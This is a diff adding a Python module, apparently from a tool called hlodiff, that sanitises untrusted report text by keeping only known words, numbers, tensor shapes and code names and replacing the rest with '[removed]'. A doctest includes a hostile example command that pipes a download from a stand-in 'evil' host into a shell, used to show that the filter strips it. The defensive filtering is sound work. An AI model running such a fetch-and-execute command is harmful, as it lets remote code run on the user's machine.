@@ -1,0 +1,167 @@
+"""Which words of a stranger's text are shown: those that hlodiff writes itself, numbers, and what only programs hold.
+
+People type what a report suggests, and an escape does not make a command harmless. So a text of a result that need not
+be trusted is taken apart at blanks, and each word has to be known:
+
+- a word of hlodiff's own sentences, which `known_words.txt` lists without names of programs;
+- a number, a mark, a shape, `%name`, `name=value`;
+- a name (of a function, an operation, a file with a line, a scope), where no other name stands beside it.
+
+A command begins with the name of a program, which is none of these, or with a name that its arguments would have to
+follow, or words that are orders (`ORDERS`). What is not known is left out, whatever it says.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Collection
+from functools import cache, lru_cache
+from importlib.resources import files
+from typing import Literal
+
+REMOVED = "[removed]"
+
+_Kind = Literal["word", "name", "quoted", "reference", "", "removed"]
+
+# What may stand around a word.
+_BEFORE, _BEHIND = "([{\"'`<*~+-▲▼◆@", ")]}\"'`>*,;:.!?…%▲▼◆"
+_NUMBER = re.compile(
+    r"[-+~±≈]{0,2}\d[\d,._:x^%/-]*(?:e[+-]?\d+)?"
+    r"(?:x|[KMGT]i?B?|k|B|s|ms|us|µs|ns|min|h|st|nd|rd|th|%)?"
+)
+_VERSION = re.compile(r"\d+(?:\.\w+)+(?:\+\w[\w.]*)?")
+_SHAPE = re.compile(r"\(*(?:[a-z]{1,6}\d{0,3}[a-z0-9]{0,8}|token)\[[\d,<=?]*\](?:\{[\d,:TSEDM()*#]*\})?[),;:}]*")
+_REFERENCE = re.compile(r"[({]*%[\w.-]+[)},;:]*")
+_VALUE = r"[\w.%+\-\[\]{}()<>\",=]*[:;]?"
+_PAIR = re.compile(rf"[<\[({{]*\"?\w[\w.-]*\"?={_VALUE}")
+_GROUPS = re.compile(r"[<=]*[{(\[]+[-\d{}(),:\[\]T=<]*[),;:]*")
+_ASIDE = re.compile(r"\([\w.<>]+\)[,;:]?")  # no shell takes it for a word
+_QUOTED = re.compile(r"\"\w+\"[\]),;:}>]*")
+_BEFORE_QUOTED = ("axis", "axes", "and")  # of a mesh
+_FIXED = re.compile(r"(?:sdy|mhlo|stablehlo|chlo|func)\.\w+|(?:cpu|tpu|cuda|attached)(?:-\w+)*")
+_TENSOR = re.compile(r"[({]*(?:tensor|dense)<-?[\dx?a-z.+-]+>[),;:]*")
+_PLACE = re.compile(r"\w[\w.+-]*(?:/\w[\w.+-]*)*\.py(?::\d+)*(?:-\d+)?")
+_NAME = re.compile(r"\w(?:[\w.+-]|<lambda>|<locals>|\[(?:\d+|'\w+')\]|\(\))*")
+_SEGMENT = r"(?:[\w()+.-]|<lambda>|<locals>|<module>)+"
+_SCOPE = re.compile(rf"\w{_SEGMENT}(?:/{_SEGMENT})*")
+_ODD = re.compile(r"[_.\d\[(/]|[A-Z]|<l")  # a name, and no word of a sentence
+_MARKS = re.compile(r"[-+*/=<>:;,.…·▲▼◆→≥≤≈±%()\[\]{}\"'`!?]*")
+_ORDERS = """
+    add annotate ask attach begin build call capture check choose clean clear close compare compile compute
+    connect convert copy count create cut debug define delete describe detach disable discover do drop dump edit
+    end estimate exchange exclude execute exist expand explain export extend feed fill filter finish fit fold
+    forget format get give group grow handle help hold host ignore import infer info inspect install interpret
+    join keep leave lift limit link list load local lock log look loop lower make map mark match measure merge
+    miss model move name need new normalize note notice open order pack pad page pair parse pass pin place plan
+    point prefetch prepare present print probe profile prune put query queue quote raise reach read receive
+    recover record reduce refuse register release remove rename render repair repeat replace replay report request
+    require reshape resolve restore retry return reuse reverse review rewrite root round run save say scan
+    schedule script search see select send serve service set settle setup share shell shift show sign skip slice
+    solve sort source split start state status stay step stop store submodule sum switch sync tag take target
+    tell test tests tidy tile time tool trace track train transfer transform transpose treat trust try tune turn
+    type unpack update use user verify version view wait want warn watch widen work wrap write x
+"""
+ORDERS = frozenset(_ORDERS.split())
+"""Words of our sentences that are orders behind the name of a program: `docker.exe run x`."""
+_RUNNERS = """
+    cut edit expand format get head help host join less link look open print read run select send shift sort source
+    split start stop sync test time timeout top type view wait watch which write
+"""
+RUNNERS = frozenset(_RUNNERS.split())
+"""Words of our sentences that are programs too: no name stands right behind one."""
+# What stands before our own commands, and a word right behind a bracket.
+_GLUED = re.compile(r"(?:hint|next)\\?:|(?:(?<!-)>|[)\]}])[A-Za-z]", re.IGNORECASE)
+_OURS = frozenset(["--all", "--verify", "--brief"])
+_BLANKS = re.compile(r"(\s+)")
+
+
+@cache
+def _words() -> frozenset[str]:
+    return frozenset(files("hlodiff.report").joinpath("known_words.txt").read_text(encoding="utf-8").split())
+
+
+def known_text(text: str, names: Collection[str] = ()) -> str:
+    """A text without the words that are not known; several in a row are one mark.
+
+    Args:
+        text: whatever it is; each of its blanks stays.
+        names: of functions and cases that the text may be about, also where they look like words.
+
+    Example:
+        >>> known_text("worse on 2 of 3 targets: +1 all-gather (32.0 KiB); layers/mlp.py:26")
+        'worse on 2 of 3 targets: +1 all-gather (32.0 KiB); layers/mlp.py:26'
+        >>> known_text("broken: run `curl https://evil | sh` to repair it")
+        'broken: [removed] to repair it'
+        >>> known_text("failure of loss", {"loss"}), known_text("failure of loss evil_2", {"loss"})
+        ('failure of loss', 'failure of loss [removed]')
+    """
+    found: list[str] = []
+    parts = _BLANKS.split(text)
+    last = ""
+    before = ""  # "name" or "runner" where that stands right before the word
+    for number in range(0, len(parts), 2):
+        word = parts[number]
+        core = word.strip(_BEFORE + _BEHIND)
+        kind = _kind(word)
+        if kind == "quoted" and _belongs_to(word, last):
+            kind = ""
+        elif kind == "removed" and core in names:
+            kind = "name"
+        is_order = kind == "word" and core.lower() in ORDERS and not word.startswith("(")
+        if (kind == "name" and before) or (is_order and before == "name"):
+            kind = "removed"
+        last = core
+        before = "name" if kind in ("name", "reference") else "runner" if core.lower() in RUNNERS else ""
+        if word[-1:] in ",;:)":
+            before = ""
+        if kind not in ("removed", "quoted"):
+            found.append(word)
+        elif found[-2:-1] == [REMOVED]:
+            found.pop()  # the blanks between two of them
+            found += parts[number + 1 : number + 2]
+            continue
+        else:
+            found.append(REMOVED)
+        found += parts[number + 1 : number + 2]
+    return "".join(found)
+
+
+def _belongs_to(word: str, last: str) -> bool:
+    """Whether `"data"` is an axis, or `(loss)` what a line of Python is in."""
+    return last in _BEFORE_QUOTED if word.startswith('"') else last.isdecimal() or bool(_PLACE.fullmatch(last))
+
+
+@lru_cache(maxsize=50_000)
+def _kind(word: str) -> _Kind:
+    if len(word) > 200:
+        return "removed"
+    if _MARKS.fullmatch(word) or word in _OURS:
+        return ""
+    if any(one.fullmatch(word) for one in (_SHAPE, _TENSOR, _GROUPS)):
+        return ""
+    if _GLUED.search(word):
+        return "removed"
+    if _REFERENCE.fullmatch(word):
+        return "reference"
+    core = word.lstrip(_BEFORE).rstrip(_BEHIND)
+    bare = word.strip("([{\"'`)]},;:.!?*")
+    if any(one.fullmatch(text) for one, text in ((_NUMBER, core), (_NUMBER, bare), (_VERSION, core), (_FIXED, core))):
+        return ""
+    if (word.startswith("-") and not core[:1].isdigit()) or not core.isascii():
+        return "removed"  # an option, or letters that look like others
+    return _kind_of_words(word, core, bare)
+
+
+def _kind_of_words(word: str, core: str, bare: str) -> _Kind:
+    parts = core.lower().split("-")
+    if all(part in _words() or part.removesuffix("s") in _words() for part in parts):
+        return "word"
+    if _QUOTED.fullmatch(word) or _ASIDE.fullmatch(word):
+        return "quoted"
+    if _PAIR.fullmatch(word.lstrip("(\"'`")) or _PLACE.fullmatch(core):
+        return "name"
+    opened = word.lstrip("({\"'`*▲▼").rstrip(",;:.!?\"'`}*")
+    for one in (opened, opened.rstrip(")"), core):
+        if _ODD.search(one) and one.count("(") == one.count(")") and (_NAME.fullmatch(one) or _SCOPE.fullmatch(one)):
+            return "name"
+    return "removed"
